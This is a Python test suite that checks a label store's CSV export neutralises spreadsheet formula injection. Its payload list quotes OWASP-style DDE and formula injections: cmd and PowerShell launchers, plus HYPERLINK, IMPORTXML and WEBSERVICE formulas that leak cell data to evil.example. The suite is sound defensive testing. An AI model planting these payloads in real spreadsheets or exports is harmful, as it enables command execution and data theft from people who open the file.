"""What annotators and agents wrote never becomes a formula in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trajwidgets.errors import StoreError
from trajwidgets.labels import Decision, LabelSchema
from trajwidgets.store import LabelStore
from trajwidgets.store.kinds import act_draft
from trajwidgets.store.spreadsheets import guarded, unguarded

Decide = Callable[..., Decision]

#: Payloads after OWASP's page "CSV Injection" and public lists of formula and DDE injections.
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|'/c powershell.exe -w hidden $e=(New-Object System.Net.WebClient)'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click for more")',
    'IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    'IMAGE("https://evil.example/images/srpr/logo3w.png")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTRANGE("https://docs.example/spreadsheets/d/x", "Sheet1!A1:B1")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "10+20+cmd|' /C calc'!A0",
    "'file:///etc/passwd'#$passwd.A1",
    "SUM(1+1)*cmd|' /C calc'!A0",
]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u00a0@", "\ufeff=", "\u200b-", "\uff1d", "\uff0b"]
INJECTIONS = [start + body for start in STARTS for body in BODIES] + ["\t", "\r", "-", "=", "@SUM(1)", "'=1", "''=1"]

#: How a spreadsheet decides: blanks it trims, then one of its signs.
RUNS = re.compile(r"[\s\ufeff\u200b\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
CALCULATES = re.compile(RUNS.pattern.removesuffix(r"|[\t\r\n]"))


def test_the_list_is_long_enough_and_runs_where_it_is_not_guarded() -> None:
    assert len(set(INJECTIONS)) > 150
    assert sum(bool(RUNS.match(text)) for text in INJECTIONS) > 150


@pytest.mark.parametrize("wide", [False, True])
def test_no_cell_of_the_file_begins_like_a_formula(
    store: LabelStore, decide: Decide, schema: LabelSchema, tmp_path: Path, wide: bool
) -> None:
    store.record_schema(schema)
    store.append()
    for place, text in enumerate(INJECTIONS):
        store.save(decide(f"s{place}", note=text), annotator="a1")
    store.save(decide("=1+1", run="=1+1", note="x"), annotator="=cmd|' /C calc'!A0")
    store.save(decide("s1", seconds=-3.5, clicks=0), annotator="a2")
    store.to_csv(tmp_path / "labels.csv", wide=wide)
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if RUNS.match(cell) and cell != "-3.5"] == []
    assert cells.count("-3.5") == 1, "a number is no text"
    place = rows[0].index("note" if wide else "value")
    written = {row[place] for row in rows[1:]}
    assert {guarded(text) for text in INJECTIONS} <= written
    assert {unguarded(cell) for cell in written} >= set(INJECTIONS)


def test_a_cell_cannot_be_left_with_a_quote_mark_or_a_line_break(
    store: LabelStore, decide: Decide, tmp_path: Path
) -> None:
    texts = ['",=1+1,"', 'a"\n=1+1', "a\r\n=1+1", 'x","=1', "plain; =1+1"]
    for place, text in enumerate(texts):
        store.save(decide(f"s{place}", note=text), annotator="a1")
    store.to_csv(tmp_path / "labels.csv")
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [unguarded(row["value"]) for row in rows] == texts
    assert all(
        '"' + guarded(text).replace('"', '""') + '"' in (tmp_path / "labels.csv").read_bytes().decode()
        for text in texts
    )


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_cell_begins_like_a_formula_where_another_separator_splits_the_file(
    store: LabelStore, decide: Decide, schema: LabelSchema, tmp_path: Path, delimiter: str
) -> None:
    """Excel splits at `;` wherever the comma is in numbers; our quote marks then stand in the middle of a cell."""
    store.record_schema(schema)
    within = [f"see{sign}{blank}{text}" for sign in ";\t\n" for blank in ("", '" "') for text in INJECTIONS[::5]]
    texts = ["see;=cmd|' /C calc'!A0;y", "list\n=1+1;", 'a;""=1', "a;'=1", "a;\t=1;=2", ";=1", "\n;@x", *within]
    store.append(*(act_draft(decide(f"s{place}", note=text), "a1", "annotator") for place, text in enumerate(texts)))
    store.to_csv(tmp_path / "labels.csv")
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if CALCULATES.match(cell)] == []
    with LabelStore(tmp_path / "again.db") as again:
        again.import_frame(tmp_path / "labels.csv", schema=schema)
        assert again.to_frame()["value"].tolist() == texts


def test_a_note_of_any_length_comes_back(
    store: LabelStore, decide: Decide, schema: LabelSchema, tmp_path: Path
) -> None:
    before = csv.field_size_limit()
    note = "a long story; " * 20_000
    store.save(decide("s1", note=note), annotator="a1")
    store.to_csv(tmp_path / "labels.csv")
    with LabelStore(tmp_path / "again.db") as again:
        again.import_frame(tmp_path / "labels.csv", schema=schema)
        assert again.to_frame()["value"].tolist() == [note]
    assert csv.field_size_limit() == before, "the limit of the process is as it was"


SIGNS = ["'", "=", "-", " ", "\t", "\r", "\n", ";", '"', "a", "\uff1d"]
TEXTS = st.text() | st.builds("".join, st.lists(st.sampled_from(SIGNS)))


@given(text=TEXTS)
def test_every_text_is_safe_and_is_read_back_as_it_was(text: str) -> None:
    assert not RUNS.match(guarded(text))
    assert unguarded(guarded(text)) == text
    assert guarded(text).replace("'", "") == text.replace("'", ""), "marks are all that is added"
    for delimiter in ",;\t":
        line = ",".join('"' + guarded(each).replace('"', '""') + '"' for each in ("r1", text, "s1"))
        cells = [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter) for cell in row]
        assert [cell for cell in cells if CALCULATES.match(cell)] == []


@given(texts=st.lists(TEXTS, unique=True))
def test_no_two_texts_become_one(texts: list[str]) -> None:
    assert len({guarded(text) for text in texts}) == len(texts)


@pytest.mark.parametrize("value", ["plain", "", "a=b", "1-2", "o'clock", "' quoted", "[]", '["a"]'])
def test_a_harmless_text_is_left_as_it_is(value: str) -> None:
    assert guarded(value) == value


def test_a_file_that_cannot_be_written_is_said(store: LabelStore, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(StoreError, match="cannot be written"):
        store.to_csv(tmp_path / "file" / "labels.csv")


def test_a_missing_value_is_an_empty_cell_and_a_set_a_json_list(
    store: LabelStore, decide: Decide, tmp_path: Path
) -> None:
    store.save(decide("s1", tags=["plan", "tool"]), annotator="a1")
    store.to_csv(tmp_path / "labels.csv")
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    found: dict[str, Any] = dict(row)
    assert (found["value"], found["confidence"], found["stale"]) == ('["plan","tool"]', "", "False")
    assert found["recorded_at"].endswith("+00:00")
